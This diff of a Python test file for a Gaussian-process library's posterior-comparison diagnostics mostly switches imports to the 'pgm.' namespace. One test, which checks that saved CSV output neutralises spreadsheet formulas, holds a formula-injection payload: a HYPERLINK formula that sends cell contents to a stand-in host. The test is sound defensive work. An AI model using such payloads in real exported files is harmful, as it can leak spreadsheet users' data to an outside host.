@@ -14,7 +14,6 @@ from scipy.special import expit
 
 import pgmodels as pgm
 from pgmodels.diagnostics.compare import (
-    compare,
     convergence_by_latent,
     crps,
     expected_calibration_error,
@@ -23,13 +22,7 @@ from pgmodels.diagnostics.compare import (
     standard_errors,
     worst,
 )
-from pgmodels.inference.correct import correct
-from pgmodels.inference.gibbs import gibbs
-from pgmodels.inference.vi import cavi
 from pgmodels.interop.arviz import pointwise_log_likelihood
-from pgmodels.kernels.stationary import RBF
-from pgmodels.likelihoods.named import Bernoulli, Binomial, Gaussian, LogisticSoftmax
-from pgmodels.model import GP, Model
 from pgmodels.priors.base import Sites
 from pgmodels.results.gaussian import NormalDensity
 
@@ -43,24 +36,24 @@ def data(n, seed):
 @cache
 def bernoulli():
     X, y = data(20, 0)
-    model = Model(Bernoulli(), GP(RBF(2.0, 0.9), mean=0.8))
-    vi = cavi(model, X, y)
-    return vi, correct(vi), gibbs(model, X, y, num_samples=300, num_warmup=30, num_chains=2, seed=3)
+    model = pgm.Model(pgm.Bernoulli(), pgm.GP(pgm.RBF(2.0, 0.9), mean=0.8))
+    vi = pgm.cavi(model, X, y)
+    return vi, pgm.correct(vi), pgm.gibbs(model, X, y, num_samples=300, num_warmup=30, num_chains=2, seed=3)
 
 
 @cache
 def gaussian():
     X, _ = data(15, 2)
     y = np.sin(2 * X[:, 0]) + 0.3
-    model = Model(Gaussian(0.5), GP(RBF(1.5, 0.9), mean=0.4))
-    return cavi(model, X, y), gibbs(model, X, y, num_samples=400, num_warmup=5, num_chains=2, seed=3)
+    model = pgm.Model(pgm.Gaussian(0.5), pgm.GP(pgm.RBF(1.5, 0.9), mean=0.4))
+    return pgm.cavi(model, X, y), pgm.gibbs(model, X, y, num_samples=400, num_warmup=5, num_chains=2, seed=3)
 
 
 @cache
 def table():
     vi, fixed, mcmc = bernoulli()
     X, y = data(30, 1)
-    return compare(gibbs=mcmc, cavi=vi, corrected=fixed, X=X, y=y)
+    return pgm.compare(gibbs=mcmc, cavi=vi, corrected=fixed, X=X, y=y)
 
 
 def test_errors_are_those_of_the_marginals():
@@ -133,7 +126,7 @@ def test_pareto_k_is_that_of_the_dense_densities():
 @pytest.mark.slow
 def test_an_exact_approximation_shows_no_error():
     vi, mcmc = gaussian()
-    result = compare(gibbs=mcmc, cavi=vi)
+    result = pgm.compare(gibbs=mcmc, cavi=vi)
     row = result.to_dataframe().loc["cavi"]
     assert row["pareto_k"] < 0.3
     # 15 correlated latents: every error within five of its standard errors.
@@ -152,7 +145,7 @@ def test_a_worse_approximation_shows():
     with jax.enable_x64(True):
         posterior = vi.prior.condition(Sites(*(2 * part for part in vi.sites)))
     narrow = replace(vi, variance=vi.variance / 2, posterior=posterior, method="narrow")
-    frame = compare(gibbs=mcmc, cavi=vi, narrow=narrow).to_dataframe()
+    frame = pgm.compare(gibbs=mcmc, cavi=vi, narrow=narrow).to_dataframe()
     for column in ("variance_error", "variance_error_max", "wasserstein", "pareto_k"):
         assert frame.loc["narrow", column] > frame.loc["cavi", column]
     np.testing.assert_allclose(frame.loc["narrow", "variance_error"], (mcmc.variance - vi.variance / 2).mean())
@@ -192,11 +185,11 @@ def test_three_classes_and_a_second_sampler():
     rng = np.random.default_rng(3)
     X = rng.normal(size=(15, 1))
     y = np.digitize(X[:, 0], [-0.5, 0.5])
-    model = Model(LogisticSoftmax(3), GP(RBF(2.0, 1.0), size=3))
-    mcmc = gibbs(model, X, y, num_samples=60, num_warmup=10, num_chains=2, seed=1)
+    model = pgm.Model(pgm.LogisticSoftmax(3), pgm.GP(pgm.RBF(2.0, 1.0), size=3))
+    mcmc = pgm.gibbs(model, X, y, num_samples=60, num_warmup=10, num_chains=2, seed=1)
     other = replace(mcmc, whitened=tuple(v[:, :40] for v in mcmc.whitened))
-    vi = cavi(model, X, y)
-    result = compare(first=vi, a=mcmc, b=other, reference="b", X=X[:5], y=y[:5])
+    vi = pgm.cavi(model, X, y)
+    result = pgm.compare(first=vi, a=mcmc, b=other, reference="b", X=X[:5], y=y[:5])
     assert result.reference == "b"
     assert result.mcse_mean.shape == (15, 3)
     frame = result.to_dataframe()
@@ -216,16 +209,16 @@ def test_three_classes_and_a_second_sampler():
 def test_binomial_test_data_take_columns_or_covariates():
     X = np.linspace(-1.0, 1.0, 6)[:, None]
     y = np.column_stack([[0, 1, 3, 4, 5, 5], [5, 5, 5, 6, 6, 9]])
-    model = Model(Binomial(), GP(RBF(1.0, 0.7)))
-    vi, mcmc = cavi(model, X, y), gibbs(model, X, y, num_samples=20, num_warmup=5, num_chains=2)
-    one = compare(gibbs=mcmc, cavi=vi, X=X, y=y).to_dataframe()
-    two = compare(gibbs=mcmc, cavi=vi, X=X, y=y[:, 0], covariates=y[:, 1]).to_dataframe()
+    model = pgm.Model(pgm.Binomial(), pgm.GP(pgm.RBF(1.0, 0.7)))
+    vi, mcmc = pgm.cavi(model, X, y), pgm.gibbs(model, X, y, num_samples=20, num_warmup=5, num_chains=2)
+    one = pgm.compare(gibbs=mcmc, cavi=vi, X=X, y=y).to_dataframe()
+    two = pgm.compare(gibbs=mcmc, cavi=vi, X=X, y=y[:, 0], covariates=y[:, 1]).to_dataframe()
     pd.testing.assert_frame_equal(one, two)
     mean = vi.predict(X, covariates=y[:, 1]).mean
     np.testing.assert_allclose(one.loc["cavi", "rmse"], np.sqrt(np.mean((mean - y[:, 0]) ** 2)))
     assert one["calibration_error"].isna().all()
     with pytest.raises(ValueError, match="Leave covariates out"):
-        compare(gibbs=mcmc, X=X, y=y, covariates=y[:, 1])
+        pgm.compare(gibbs=mcmc, X=X, y=y, covariates=y[:, 1])
 
 
 def test_printed_saved_and_plotted(tmp_path):
@@ -254,7 +247,7 @@ def test_printed_saved_and_plotted(tmp_path):
 def test_a_correction_out_of_reach_is_said():
     _, fixed, mcmc = bernoulli()
     bad = replace(fixed, variance=fixed.variance - 0.9 * fixed.variance.max())
-    result = compare(gibbs=mcmc, corrected=bad)
+    result = pgm.compare(gibbs=mcmc, corrected=bad)
     assert np.isnan(result.to_dataframe().loc["corrected", "wasserstein"])
     assert "variances are not positive" in result.notes[0]
     assert " ".join(result.notes[0].split()) in " ".join(str(result).split())
@@ -263,7 +256,7 @@ def test_a_correction_out_of_reach_is_said():
 def test_text_in_a_saved_comparison_is_no_formula_of_a_spreadsheet(tmp_path):
     vi, *_, draws = bernoulli()
     hostile = ['=HYPERLINK("http://a.example/"&A1,"open")', "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "plain", "a=b"]
-    table = compare(gibbs=draws, **dict.fromkeys(hostile, vi))
+    table = pgm.compare(gibbs=draws, **dict.fromkeys(hostile, vi))
     with table.save(tmp_path).open(newline="", encoding="utf-8") as file:
         (corner, *columns), *rows = csv.reader(file)
     written = [row[0] for row in rows]
@@ -279,24 +272,19 @@ def test_bad_input_is_refused():
     vi, _, mcmc = bernoulli()
     other, _ = gaussian()
     X, y = data(5, 8)
-    with pytest.raises(ValueError, match="needs draws of the posterior"):
-        compare(cavi=vi)
-    with pytest.raises(ValueError, match="reference must be the label of one of the results"):
-        compare(gibbs=mcmc, cavi=vi, reference="nuts")
-    with pytest.raises(ValueError, match="must be draws"):
-        compare(gibbs=mcmc, cavi=vi, reference="cavi")
-    with pytest.raises(ValueError, match="by keyword"):
-        compare(reference=mcmc, cavi=vi)
-    with pytest.raises(ValueError, match="different X"):
-        compare(gibbs=mcmc, cavi=other)
-    with pytest.raises(ValueError, match="got only X"):
-        compare(gibbs=mcmc, X=X)
-    with pytest.raises(ValueError, match="got only y"):
-        compare(gibbs=mcmc, y=y)
-    with pytest.raises(ValueError, match="same length"):
-        compare(gibbs=mcmc, X=X, y=y[:3])
-    with pytest.raises(ValueError, match="x_test must be a result of cavi"):
-        compare(gibbs=mcmc, x_test=X)
+    for arguments, message in (
+        ({"cavi": vi}, "needs draws of the posterior"),
+        ({"gibbs": mcmc, "cavi": vi, "reference": "nuts"}, "reference must be the label of one of the results"),
+        ({"gibbs": mcmc, "cavi": vi, "reference": "cavi"}, "must be draws"),
+        ({"reference": mcmc, "cavi": vi}, "by keyword"),
+        ({"gibbs": mcmc, "cavi": other}, "different X"),
+        ({"gibbs": mcmc, "X": X}, "got only X"),
+        ({"gibbs": mcmc, "y": y}, "got only y"),
+        ({"gibbs": mcmc, "X": X, "y": y[:3]}, "same length"),
+        ({"gibbs": mcmc, "x_test": X}, "x_test must be a result of cavi"),
+    ):
+        with pytest.raises(ValueError, match=message):
+            pgm.compare(**arguments)
 
 
 @pytest.mark.parametrize(("rhat", "ess", "cautioned"), [(1.2, 900.0, True), (1.01, 40.0, True), (1.01, 900.0, False)])
